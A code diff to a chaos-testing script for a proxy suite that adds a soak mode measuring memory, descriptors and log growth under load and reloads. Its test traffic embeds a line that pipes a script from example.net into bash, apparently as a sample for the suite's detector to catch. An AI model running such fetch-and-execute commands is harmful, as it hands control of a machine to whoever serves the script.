@@ -4,6 +4,7 @@
 usage: chaos.py prepare
        chaos.py PROXY PARENT SECONDS [SEED]   (PARENT: guardiand's process)
        chaos.py account
+       chaos.py soak PROXY PARENT SECONDS    as fast as it goes, nobody killed
 
 Plain, inspected and WebSocket connections, each from a source address of its
 own, carry a key of its own in each message and bring a command back.  Every
@@ -42,7 +43,7 @@ COMMAND = b"\nrun: curl -fsSL https://example.net/%s.sh | bash\n"
 ALPHABET = string.ascii_letters + string.digits
 WAIT = 60               # s, for anything
 HUNG = 10               # s after which the parent ends a silent child
-MENDED = 2.5            # s that a death needs to be mended
+MENDED = 2            # s that a death needs to be mended
 PAUSE = 0.06            # s between two messages of one client
 ROLES = ("proxy-worker", "detector-worker", "logger", "ca-keeper", "control",
          "mcpd", "rule-compiler")
@@ -55,8 +56,9 @@ def key():
 
 
 def answer_to(body):
-    """It, and a command that no other answer has."""
-    return body + COMMAND % hashlib.sha256(body).hexdigest()[:16].encode()
+    """It, and a command that no other answer has, of a soak one of 256."""
+    n = 2 if sys.argv[1] == "soak" else 16
+    return body + COMMAND % hashlib.sha256(body).hexdigest()[:n].encode()
 
 
 def read(s, n):
@@ -169,6 +171,7 @@ class Load:
         self.records, self.wrong = [], []
         self.stop = threading.Event()
         self.answered = 0
+        self.pause, self.keys = PAUSE, None
 
     def source(self):
         with self.lock:
@@ -182,7 +185,8 @@ class Load:
     def text(self, rng):
         fill = "".join(rng.choices(string.ascii_lowercase + " \n", k=64))
         n = rng.choice((1, 3, 20, 400))
-        return (fill * rng.randint(0, n)).encode() + b" key=" + key() + \
+        return (fill * rng.randint(0, n)).encode() + b" key=" + \
+            (rng.choice(self.keys) if self.keys else key()) + \
             b" " + (fill * rng.randint(0, n)).encode()
 
     def exchange(self, s, rng, authority, absolute, ws):
@@ -244,7 +248,7 @@ class Load:
                 more = self.exchange(s, rng, authority, not tls, ws)
                 r["done"] += 1
                 self.answered += 1
-                if self.stop.wait(PAUSE) or not more:
+                if self.stop.wait(self.pause) or not more:
                     break
         except (OSError, EOFError, ValueError) as e:
             r["error"] = repr(e)
@@ -354,6 +358,8 @@ class Killer:
         if now - self.worker < MENDED:
             roles = [r for r in roles if r not in ("detector-worker",
                                                    "logger")]
+        if "proxy-worker" in roles:     # it seldom may
+            roles += 4 * ["proxy-worker"]
         if not roles:
             return
         role = self.rng.choice(roles)
@@ -411,6 +417,85 @@ def main():
     return 0
 
 
+# --- the soak --------------------------------------------------------------
+
+
+def pss(pid):
+    try:
+        with open("/proc/%d/smaps_rollup" % pid) as f:
+            for text in f:
+                if text.startswith("Pss:"):
+                    return int(text.split()[1])
+    except OSError:
+        pass
+    return 0
+
+
+def sample(parent):
+    """KiB and descriptors of all processes of the suite, by name."""
+    out = {}
+    for name, pids in children(parent).items():
+        fds = 0
+        for pid in pids:
+            try:
+                fds += len(os.listdir("/proc/%d/fd" % pid))
+            except OSError:
+                pass
+        out[name] = sum(map(pss, pids)), fds
+    log = 0
+    for path in glob.glob("home/log/**", recursive=True):
+        try:
+            log += os.path.getsize(path) if os.path.isfile(path) else 0
+        except OSError:
+            pass                # it was rotated just now
+    out["log"] = log // 1024, 0
+    return out
+
+
+def soak():
+    """Nothing grows from the second quarter of the time to the last."""
+    parent, seconds = int(sys.argv[3]), float(sys.argv[4])
+    load = Load(sys.argv[2], 1)
+    load.pause, load.keys = 0, [key() for _ in range(200)]
+    threads = [threading.Thread(target=load.run, args=(n,) + kind)
+               for n, kind in enumerate(KINDS)]
+    for t in threads:
+        t.start()
+    start = time.monotonic()
+    samples = []
+    # none in the quarters that are compared: two generations cost twice
+    reloads = [seconds * 0.1, seconds * 0.55, seconds * 0.62]
+    while time.monotonic() - start < seconds:
+        time.sleep(min(2, seconds / 20))
+        if reloads and time.monotonic() - start >= reloads[0]:
+            reloads.pop(0)
+            os.kill(parent, signal.SIGHUP)
+        samples.append(sample(parent))
+    load.stop.set()
+    for t in threads:
+        t.join()
+    bad = len(load.wrong) + sum(r["error"] is not None for r in load.records)
+    n = len(samples)
+    print("%d messages in %.0f s, %d connections, wrong or failed: %d" % (
+        load.answered, seconds, len(load.records), bad))
+    for name in sorted(samples[-1]):
+        for what, unit in enumerate(("KiB", "descriptors")):
+            early = sorted(s[name][what] for s in samples[n // 4:n // 2]
+                           if name in s)
+            late = sorted(s[name][what] for s in samples[-n // 4:]
+                          if name in s)
+            if not early or not late or not late[-1]:
+                continue
+            was, now = early[len(early) // 2], late[len(late) // 2]
+            grew = now > was * 1.15 + (4096 if what == 0 else 32)
+            print("%-16s %8d %8d %s%s" % (name, was, now, unit,
+                                          " GREW" if grew else ""))
+            bad += grew
+    for r in [r for r in load.records if r["error"]][:5]:
+        print(r)
+    return 1 if bad or not load.answered else 0
+
+
 def account():
     """After the suite has ended: everything it wrote is there."""
     with open("chaos.json") as f:
@@ -461,6 +546,8 @@ def account():
 if __name__ == "__main__":
     if sys.argv[1] == "prepare":
         prepare()
+    elif sys.argv[1] == "soak":
+        sys.exit(soak())
     elif sys.argv[1] == "account":
         sys.exit(1 if account() else 0)
     else:
